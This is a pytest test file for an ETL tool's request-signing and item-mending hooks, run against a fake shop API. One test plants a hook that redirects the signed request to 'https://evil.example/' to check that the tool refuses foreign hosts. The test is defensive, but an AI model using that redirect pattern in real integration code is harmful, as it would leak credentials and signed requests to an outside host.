"""Functions of the user's own: requests signed as an API wants it, items mended before they become rows."""

from __future__ import annotations

import hashlib
import hmac

import pytest

from etl.bootstrap import open_app
from etl.errors import ConfigError
from etl.model.run import RunStatus
from etl.service.replay import replay
from etl.testing.doubles import FakeStop
from etl.testing.exchange import Answer, Call, error, ok

SHOP = """\
base_url: {url}
auth: {{hook: sign, given: {{secret: "${{SECRET}}"}}}}
streams:
  orders:
    path: /orders
    params: {{after: "{{cursor}}"}}
    records: orders
    pages: {{cursor: "orders[-1].id"}}
    key: id
    hooks: {{item: mend}}
    expect: {{max_reject_share: 0.5}}
"""
HOOKS = """\
import hashlib
import hmac
from collections.abc import Mapping
from decimal import Decimal

from etl.hooks import Item, Request


def sign(request: Request, given: Mapping[str, str]) -> Request:
    path = request.url.partition("://")[2].partition("/")[2]
    proof = hmac.new(given["secret"].encode(), f"{request.method} /{path}".encode(), hashlib.sha256).hexdigest()
    return request.with_header("X-Signature", proof)


def mend(item: Item) -> Item:
    return {"id": f"o-{item['id']}", "total": Decimal(item["cents"]) / 100, "big": item["big"]}
"""


class Shop:
    """Answers only to requests that are signed over their method and target."""

    def __init__(self) -> None:
        self.orders = [{"id": n, "cents": 101 * n, "big": 2**53 + n} for n in range(1, 26)]

    def answer(self, call: Call) -> Answer:
        wanted = hmac.new(b"hook-secret-1234", f"{call.method} {call.target}".encode(), hashlib.sha256).hexdigest()
        if call.headers.get("x-signature") != wanted:
            return error(401, "wrong signature")
        after = int(call.query.get("after", 0))
        return ok({"orders": [row for row in self.orders if row["id"] > after][:10]})


@pytest.fixture
async def shop(project):
    model = Shop()
    server = await project.serve(model)
    project.write("shop", SHOP.format(url=server.url))
    (project.config / "hooks.py").write_text(HOOKS)
    project.environ["SECRET"] = "hook-secret-1234"
    return model


async def test_requests_are_signed_and_items_mended(project, shop):
    """The cursor is still the API's own: pages follow what it sent, rows hold what the hook made of it."""
    result = await project.sync("shop.orders")

    assert (result.status, result.counts.inserted) == (RunStatus.SUCCEEDED, 25)
    assert project.table("shop_orders")["o-3"] == {"id": "o-3", "total": 3.03, "big": 2**53 + 3}
    assert (await project.sync("shop.orders")).counts.unchanged == 25


async def test_an_item_the_hook_fails_on_is_a_reject_that_can_be_replayed(project, shop):
    """With file and line, and with the JSON as the API sent it."""
    shop.orders[4]["cents"] = None
    result = await project.sync("shop.orders")
    assert (result.counts.inserted, result.counts.rejected) == (24, 1)
    (reject,) = project.rows("SELECT reason, raw FROM _etl_rejects")
    assert f"{project.config}/hooks.py:16: TypeError" in reject["reason"]
    assert reject["raw"] == b'{"id":5,"cents":null,"big":9007199254740997}'

    mended = HOOKS.replace('Decimal(item["cents"])', 'Decimal(item["cents"] or 0)')
    (project.config / "hooks.py").write_text(mended)
    async with open_app(project.config, project.database_url, project.environ, lambda _: None) as app:
        await replay(app, (), FakeStop())

    assert project.table("shop_orders")["o-5"] == {"id": "o-5", "total": 0, "big": 2**53 + 5}


@pytest.mark.parametrize(
    ("body", "why"),
    [
        ("return given['nothing']", "hooks.py:12: KeyError: 'nothing'"),
        ("return None", "it returned NoneType, not etl.hooks.Request"),
        ("raise ValueError(given['secret'])", "ValueError: ***"),
    ],
)
async def test_a_hook_that_does_not_sign_ends_the_stream(project, shop, body, why):
    """Exit 4, with what to mend and no secret."""
    broken = HOOKS.replace('return request.with_header("X-Signature", proof)', body)
    (project.config / "hooks.py").write_text(broken)

    result = await project.sync("shop.orders")

    assert (result.exit_code, result.error_code) == (4, "E-AUTH")
    assert why in result.reason


async def test_a_hook_cannot_send_a_request_elsewhere(project, shop):
    """Credentials stay with the source."""
    away = "from dataclasses import replace\n" + HOOKS.replace(
        'return request.with_header("X-Signature", proof)', 'return replace(request, url="https://evil.example/")'
    )
    (project.config / "hooks.py").write_text(away)

    assert (await project.sync("shop.orders")).error_code == "E-FOREIGN-HOST"


async def test_a_file_that_cannot_be_run_is_exit_2(project, shop):
    """Nothing is sent."""
    (project.config / "hooks.py").write_text("import no_such_package\n" + HOOKS)

    with pytest.raises(ConfigError, match=r"hooks\.py:1:1: running it failed"):
        await project.run()
